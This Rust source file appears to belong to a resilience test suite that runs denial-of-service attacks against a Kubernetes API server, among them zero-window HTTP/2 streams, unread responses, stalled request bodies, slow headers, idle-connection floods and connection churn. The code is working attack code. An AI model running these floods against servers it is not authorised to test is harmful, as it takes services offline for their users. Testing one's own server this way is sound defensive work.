//! Attacks with clients that do not read, do not finish their requests, or do not disconnect.

use std::time::Duration;

use bytes::Bytes;
use futures::{StreamExt as _, future::join_all, stream};
use http::{Request, header};
use http_body::Frame;
use http_body_util::{BodyExt, StreamBody};
use serde_json::json;
use tokio::{io::AsyncWriteExt as _, time};

use crate::{
    catalog::{AttackResult, Error},
    server::Server,
    wire::{Http2, PendingRequest, get, http2, tls},
};

const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";

/// The duration of attacks that only wait.
const HOLD: Duration = Duration::from_secs(15);

/// Creates objects until a list response has about 18 MiB.
async fn fill(server: &Server) -> Result<(), Error> {
    for number in 0..18 {
        let data = json!({"text": "x".repeat(1 << 20)});
        let name = format!("large-{number}");
        let object = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": data});
        PendingRequest::new(server, "POST", CONFIG_MAPS).json(&object).send().await?;
    }
    Ok(())
}

async fn empty(server: &Server) -> Result<(), Error> {
    for number in 0..18 {
        PendingRequest::new(server, "DELETE", &format!("{CONFIG_MAPS}/large-{number}")).send().await?;
    }
    Ok(())
}

/// Requests lists on streams whose responses are not read.
async fn unread(server: &Server, connection: &Http2, streams: usize) -> Result<usize, Error> {
    let mut answers = Vec::new();
    for number in 0..streams {
        // Complete documents, and lists that are encoded while they are sent.
        let accept = ["application/yaml", "application/vnd.kubernetes.protobuf", "application/json"][number % 3];
        let request = get(server, CONFIG_MAPS, accept)?;
        let mut connection = connection.clone();
        answers.push(async move { time::timeout(HOLD, connection.send_request(request)).await });
    }
    let answers = join_all(answers).await;
    time::sleep(HOLD).await;
    Ok(answers.iter().filter(|answer| matches!(answer, Ok(Ok(answer)) if answer.status() == 200)).count())
}

pub(crate) async fn window_zero(server: Server) -> Result<AttackResult, Error> {
    fill(&server).await?;
    let connection = http2(&server, 0).await?;
    let answered = unread(&server, &connection, 60).await?;
    drop(connection);
    empty(&server).await?;
    Ok(AttackResult::Held(format!("{answered} of 60 answered")))
}

pub(crate) async fn window_zero_everywhere(server: Server) -> Result<AttackResult, Error> {
    fill(&server).await?;
    let mut connections = Vec::new();
    for _ in 0..16 {
        connections.push(http2(&server, 0).await?);
    }
    let answered = join_all(connections.iter().map(|connection| unread(&server, connection, 10))).await;
    let answered: usize = answered.into_iter().map(Result::unwrap_or_default).sum();
    drop(connections);
    empty(&server).await?;
    Ok(AttackResult::Held(format!("{answered} of 160 answered")))
}

pub(crate) async fn unread_http1(server: Server) -> Result<AttackResult, Error> {
    fill(&server).await?;
    let request = format!(
        "GET {CONFIG_MAPS} HTTP/1.1\r\nHost: x\r\nAccept: application/yaml\r\nAuthorization: Bearer {}\r\n\r\n",
        server.token()
    );
    let mut connections = Vec::new();
    for _ in 0..400 {
        let mut stream = tls(&server, b"http/1.1").await?;
        stream.write_all(request.as_bytes()).await?;
        stream.flush().await?;
        connections.push(stream);
    }
    time::sleep(HOLD).await;
    drop(connections);
    empty(&server).await?;
    Ok(AttackResult::Held("kept or closed".to_owned()))
}

pub(crate) async fn partial_bodies(server: Server) -> Result<AttackResult, Error> {
    let mut connections = Vec::new();
    let mut requests = Vec::new();
    for _ in 0..12 {
        let connection = http2(&server, 1 << 20).await?;
        for _ in 0..50 {
            let piece = Bytes::from(vec![b' '; 64 << 10]);
            let pieces = stream::iter((0..40).map(move |_| Ok(Frame::data(piece.clone())))).chain(stream::pending());
            let request = Request::post(format!("https://{}{CONFIG_MAPS}", server.address()))
                .header(header::AUTHORIZATION, format!("Bearer {}", server.token()))
                .header(header::CONTENT_TYPE, "application/json")
                .body(BodyExt::boxed(StreamBody::new(pieces)))?;
            let mut sender = connection.clone();
            requests
                .push(tokio::spawn(async move { sender.send_request(request).await.map(|answer| answer.status()) }));
        }
        connections.push(connection);
    }
    time::sleep(HOLD).await;
    let answered = requests.iter().filter(|request| request.is_finished()).count();
    requests.iter().for_each(tokio::task::JoinHandle::abort);
    Ok(AttackResult::Held(format!("{answered} of 600 refused or closed")))
}

pub(crate) async fn slow_heads(server: Server) -> Result<AttackResult, Error> {
    let mut connections = Vec::new();
    for _ in 0..1_000 {
        let mut stream = tls(&server, b"http/1.1").await?;
        stream.write_all(b"GET /version HTTP/1.1\r\nHost: x\r\n").await?;
        stream.flush().await?;
        connections.push(stream);
    }
    for _ in 0..15 {
        time::sleep(Duration::from_secs(1)).await;
        for stream in &mut connections {
            // The server may have closed the connection.
            let _ = stream.write_all(format!("X-Slow: {}\r\n", "x".repeat(4 << 10)).as_bytes()).await;
        }
    }
    Ok(AttackResult::Held("60 KiB each".to_owned()))
}

pub(crate) async fn idle_connections(server: Server) -> Result<AttackResult, Error> {
    let mut connections = Vec::new();
    let mut failed = 0;
    for _ in 0..4_000 {
        match tls(&server, b"http/1.1").await {
            Ok(stream) => connections.push(stream),
            Err(_) => failed += 1,
        }
    }
    time::sleep(Duration::from_secs(2)).await;
    Ok(AttackResult::Held(format!("{} opened, {failed} failed", connections.len())))
}

pub(crate) async fn connection_churn(server: Server) -> Result<AttackResult, Error> {
    let address = server.address();
    let until = time::Instant::now() + Duration::from_secs(10);
    let churn = (0..32).map(|_| {
        let address = address.clone();
        async move {
            let mut opened = 0_usize;
            while time::Instant::now() < until {
                opened += usize::from(tokio::net::TcpStream::connect(&address).await.is_ok());
            }
            opened
        }
    });
    let opened: usize = join_all(churn).await.into_iter().sum();
    Ok(AttackResult::Held(format!("{opened} connections")))
}
